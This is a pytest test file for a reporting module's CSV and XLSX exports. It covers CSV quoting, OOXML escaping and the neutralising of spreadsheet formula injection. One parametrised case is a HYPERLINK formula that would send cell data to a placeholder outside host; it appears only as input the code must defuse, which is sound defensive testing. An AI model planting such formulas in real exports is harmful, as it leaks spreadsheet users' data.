"""The pure text rules of exports, without a database: CSV injection, CSV quoting, XLSX
escapes. Their readers are third-party (``csv``, openpyxl's OOXML decoder)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from reports import exports
from reports.exports import (
    FORMULA_STARTS,
    csv_field,
    neutralise_formula,
    xlsx_text,
    xlsx_write,
)

# What a stored text can hold: anything but NUL and lone surrogates, which the API refuses
# and PostgreSQL cannot store. The pieces make the awkward cases (formula starts, CR, CRLF,
# quotes, things that look like OOXML escapes, XML-illegal characters, line separators
# that str.splitlines() splits at, non-BMP) common instead of rare.
_ANY_TEXT = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=20
)
_AWKWARD = st.sampled_from(
    [*FORMULA_STARTS, "\r\n", "\n", '"', ",", "'", "_x000D_", "_x0041", "_", "x005F_"]
    + ["\ufffe", "\uffff", "\x01", "\x0b", "\x1f", "\x85", "\u2028", "😀", " "]
)
stored_text = st.lists(st.one_of(_AWKWARD, _ANY_TEXT), max_size=6).map("".join)

# XML 1.0's Char production: https://www.w3.org/TR/xml/#charsets
_XML_CHAR = {0x9, 0xA, 0xD, *range(0x20, 0xD800), *range(0xE000, 0xFFFE)}


def _xml_can_hold(text: str) -> bool:
    return all(ord(character) in _XML_CHAR or ord(character) > 0xFFFF for character in text)


@pytest.mark.parametrize(
    ("text", "neutralised"),
    [
        (
            '=HYPERLINK("http://example.invalid/?x="&A2,"click")',
            '\'=HYPERLINK("http://example.invalid/?x="&A2,"click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\rcmd", "'\rcmd"),
        ("", ""),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("12", "12"),
        ("\n=1", "\n=1"),
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_quote(text, neutralised):
    assert neutralise_formula(text) == neutralised


@settings(max_examples=200, derandomize=True, database=None)
@given(text=stored_text)
def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text):
    neutralised = neutralise_formula(text)
    assert neutralised[:1] not in FORMULA_STARTS
    if text[:1] in FORMULA_STARTS:
        assert neutralised == "'" + text
    else:
        assert neutralised == text


@pytest.mark.parametrize(
    ("text", "field"),
    [
        (None, ""),
        ("", '""'),
        ("plain text", "plain text"),
        ("cr only\rhere", '"cr only\rhere"'),
        ("lf\nhere", '"lf\nhere"'),
        ("a,b", '"a,b"'),
        ('say "hi"', '"say ""hi"""'),
        ("'=1+1", "'=1+1"),
        ("\\.", "\\."),
    ],
)
def test_csv_fields_are_quoted_as_postgresql_copy_quotes_them(text, field):
    assert csv_field(text) == field


def csv_line(fields: list[str | None]) -> str:
    """A row as the exports write it: fields joined by commas, LF at the end."""
    return ",".join(map(csv_field, fields)) + "\n"


# Two fields at least: exports have 7 or 14 columns, and a one-field row holding NULL is an
# empty line, which readers skip (as they would PostgreSQL's).
@settings(max_examples=200, derandomize=True, database=None)
@given(
    rows=st.lists(
        st.lists(st.one_of(st.none(), stored_text), min_size=2, max_size=14),
        min_size=1,
        max_size=4,
    )
)
def test_csv_rows_read_back_exactly_with_pythons_csv_reader(rows):
    body = "".join(csv_line(row) for row in rows)
    read = list(csv.reader(io.StringIO(body, newline="")))
    assert read == [["" if value is None else value for value in row] for row in rows]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("cr only\rhere", "cr only_x000D_here"),
        ("windows\r\nline", "windows_x000D_\nline"),
        ("tab\tand\nlf", "tab\tand\nlf"),
        ("bell\x07", "bell_x0007_"),
        ("non\ufffecharacter", "non_xFFFE_character"),
        ("_x0041_", "_x005F_x0041_"),
        ("_x0041\x01", "_x005F_x0041_x0001_"),
        ("_x0041", "_x0041"),
        ("snake_case_x", "snake_case_x"),
        ("=1+1", "=1+1"),
        ("😀 café", "😀 café"),
    ],
)
def test_xlsx_text_escapes_what_xml_cannot_hold_as_ooxml_does(text, cell):
    assert xlsx_text(text) == cell


@settings(max_examples=300, derandomize=True, database=None)
@given(text=stored_text)
def test_xlsx_text_decodes_back_exactly_and_xml_can_hold_it(text):
    cell = xlsx_text(text)
    assert _xml_can_hold(cell)
    assert "\r" not in cell  # XML would read it as LF
    assert unescape(cell) == text


# --- the XLSX writer: what openpyxl reads back (full and read-only, as pandas reads) --------

_CELL = st.one_of(
    st.none(),
    stored_text,
    st.booleans(),
    st.integers(-(2**53), 2**53),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
)


def _read_xlsx(body: bytes, *, read_only: bool) -> list[list[tuple]]:
    workbook = openpyxl.load_workbook(io.BytesIO(body), read_only=read_only)
    return [list(sheet.iter_rows(values_only=True)) for sheet in workbook.worksheets]


def _as_read(value):
    """What openpyxl gives back for a written value (see the README on XLSX text)."""
    if isinstance(value, str):
        return xlsx_text(value) or None  # an empty text is an empty cell
    return value


@settings(max_examples=100, derandomize=True, database=None, deadline=None)
# Export rows always start with an id (a row of empty cells reads back as no row at all).
@given(rows=st.lists(st.tuples(st.integers(1, 2**53), _CELL, _CELL), max_size=12))
def test_xlsx_rows_read_back_as_written_text_as_string_cells(rows):
    columns = ["a", "b", "c"]
    file = io.BytesIO()
    chunks = [rows[start : start + 5] for start in range(0, len(rows), 5)]
    assert xlsx_write(file, "answers", columns, chunks) == len(rows)
    expected = [tuple(_as_read(value) for value in row) for row in rows]
    for read_only in (False, True):
        [sheet] = _read_xlsx(file.getvalue(), read_only=read_only)
        header, *data = sheet
        assert header == ("a", "b", "c")
        if read_only:  # read-only sheets drop trailing empty cells: pad them back
            data = [row + (None,) * (3 - len(row)) for row in data]
        assert data == expected
    cells = openpyxl.load_workbook(io.BytesIO(file.getvalue())).worksheets[0]
    for row in cells.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"  # never a formula, an error or a number


@pytest.mark.parametrize("rows", [0, 5, 6, 12])
def test_xlsx_splits_sheets_at_the_sheet_limit_each_with_the_header(monkeypatch, rows):
    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", 5)
    data = [(index, f"=text {index}") for index in range(rows)]
    file = io.BytesIO()
    xlsx_write(file, "scores", ["n", "text"], [data[:4], data[4:]])
    workbook = openpyxl.load_workbook(io.BytesIO(file.getvalue()))
    names = ["scores"] if rows == 0 else [f"scores-{n}" for n in range(1, (rows + 4) // 5 + 1)]
    assert workbook.sheetnames == names
    read = []
    for sheet in workbook.worksheets:
        header, *values = list(sheet.iter_rows(values_only=True))
        assert header == ("n", "text")
        assert len(values) <= 5
        read += values
    assert read == data
    # XlsxWriter made the package: one worksheet part per sheet, all listed
    with zipfile.ZipFile(io.BytesIO(file.getvalue())) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/")]
        assert sorted(sheets) == sorted(
            f"xl/worksheets/sheet{n}.xml" for n in range(1, len(names) + 1)
        )
        assert package.testzip() is None


def test_xlsx_keeps_white_space_at_either_end_of_a_text():
    file = io.BytesIO()
    xlsx_write(file, "answers", ["text"], [[(" lead",), ("trail\n",), ("\tboth ",), ("a<b&c>",)]])
    [sheet] = _read_xlsx(file.getvalue(), read_only=False)
    assert [row[0] for row in sheet[1:]] == [" lead", "trail\n", "\tboth ", "a<b&c>"]
